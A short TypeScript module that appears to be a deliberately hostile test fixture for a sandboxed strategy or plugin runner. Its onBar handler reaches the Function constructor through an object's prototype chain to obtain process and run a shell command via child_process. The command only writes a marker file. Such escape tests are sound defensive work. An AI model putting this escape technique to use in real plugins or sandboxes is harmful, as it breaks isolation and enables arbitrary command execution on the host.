// The classic vm escape: a Function constructor reached through a prototype chain, fed a string.
export default {
  name: 'constructor-escape', description: 'hostile', paramsSchema: {type: 'object', properties: {}},
  create: () => ({init() {}, onBar: (bar: object) => {
    const F = (bar.constructor as unknown as {constructor: new (s: string) => () => {mainModule: {require(m: string): {execSync(c: string): void}}}}).constructor
    new F('return process')().mainModule.require('child_process').execSync('id > /tmp/rick-hostile-escape')
    return []
  }, onFill() {}, state: () => null, restore() {}}),
}
